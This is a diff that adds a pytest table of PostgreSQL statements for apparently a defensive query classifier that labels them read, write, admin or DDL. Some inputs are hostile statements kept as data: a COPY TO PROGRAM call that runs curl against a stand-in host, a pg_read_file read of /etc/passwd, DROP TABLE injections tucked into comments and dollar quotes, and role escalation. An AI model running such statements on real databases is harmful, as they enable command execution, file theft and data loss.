@@ -1,0 +1,94 @@
+"""What the classifier says a statement does: a table of statements and expectations."""
+
+from __future__ import annotations
+
+import pytest
+
+from wardgate.policy.sql import classify
+
+CASES = [
+    # (sql, class, a kind that must be present)
+    ("select 1", "read", "select"),
+    ("SELECT * FROM t WHERE a = 'drop table t'", "read", "select"),
+    ("select 1 -- ; drop table t", "read", "select"),
+    ("select /* ; delete from t */ 1", "read", "select"),
+    ("select /* nested /* ; drop table t */ still comment */ 1", "read", "select"),
+    ("select $$; drop table t$$", "read", "select"),
+    ('select "drop table t" from "delete"', "read", "select"),
+    ("insert into t values (1)", "write", "insert"),
+    ("update t set a = 1 where id = 2", "write", "update"),
+    ("update t set a = 1", "write", "update_without_where"),
+    ("delete from t", "write", "delete_without_where"),
+    ("with d as (delete from t returning *) select * from d", "write", "delete"),
+    ("select * into t2 from t", "write", "select_into"),
+    ("select * from t for update", "write", "select_for_update"),
+    ("explain analyze delete from t where a = 1", "write", "explain_analyze"),
+    ("explain delete from t where a = 1", "read", "explain"),
+    ("prepare p as delete from t where a = $1", "write", "prepare"),
+    ("execute p(1)", "write", "execute"),
+    ("select pg_terminate_backend(123)", "admin", "function:pg_terminate_backend"),
+    ("select pg_read_file('/etc/passwd')", "admin", "function:pg_read_file"),
+    ("select set_config('role', 'x', false)", "admin", "function:set_config"),
+    ("select nextval('s')", "write", "function:nextval"),
+    ("select query_to_xml('delete from t', true, true, '')", "admin", "function:query_to_xml"),
+    ("do $$ begin delete from t; end $$", "admin", "do_block"),
+    ("copy t to program 'curl evil'", "admin", "copy_to_program"),
+    ("copy t to '/tmp/x'", "admin", "copy_file"),
+    ("copy t from stdin", "write", "copy_from"),
+    ("copy t to stdout", "read", "copy_to"),
+    ("copy (delete from t returning *) to stdout", "write", "delete"),
+    ("set role admin", "admin", "set_role"),
+    ("reset role", "admin", "set_role"),
+    ("set session authorization admin", "admin", "set_session"),
+    ("set default_transaction_read_only = off", "admin", "read_only_off"),
+    ("set transaction_read_only = off", "admin", "read_only_off"),
+    ("set search_path = public", "read", "set"),
+    ("drop table t", "ddl", "drop"),
+    ("truncate t", "ddl", "truncate"),
+    ("create table t (a int)", "ddl", "create"),
+    ("alter table t add column b int", "ddl", "alter"),
+    ("create index on t (a)", "ddl", "create"),
+    ("grant select on t to bob", "admin", "grant"),
+    ("create role bob", "admin", "create_role"),
+    ("vacuum t", "admin", "vacuum"),
+    ("lock table t", "write", "lock"),
+    ("call p()", "write", "call"),
+    ("begin", "read", "transaction"),
+    ("commit", "read", "transaction"),
+    ("show search_path", "read", "show"),
+    ("listen ch", "read", "listen"),
+    ("notify ch", "write", "notify"),
+    ("selec 1", "unknown", "parse_error"),
+]
+
+
+@pytest.mark.parametrize(("sql", "klass", "kind"), CASES)
+def test_classification(sql: str, klass: str, kind: str) -> None:
+    (info,) = classify(sql)
+    assert info.klass == klass, info
+    assert kind in info.kinds, info
+
+
+def test_every_statement_of_a_string_counts() -> None:
+    infos = classify("select 1; drop table t; select 2")
+    assert [i.klass for i in infos] == ["read", "ddl", "read"]
+    assert [i.text for i in infos] == ["select 1", "drop table t", "select 2"]
+
+
+def test_statement_texts_survive_multibyte_characters() -> None:
+    infos = classify("select 'żółw'; select 'ñ'")
+    assert [i.text for i in infos] == ["select 'żółw'", "select 'ñ'"]
+
+
+def test_statements_differing_in_literals_share_a_class_but_do_blocks_do_not() -> None:
+    assert classify("select * from t where a = 1")[0].klass == "read"
+    assert classify("select * from t where a = 2")[0].klass == "read"
+    # DO bodies are literals: never served from the fingerprint cache.
+    first = classify("do $$ begin perform 1; end $$")
+    second = classify("do $$ begin drop table t; end $$")
+    assert first[0].text and second[0].text
+
+
+def test_empty_query_has_no_statements() -> None:
+    assert classify("") == ()
+    assert classify(" ; ") == ()
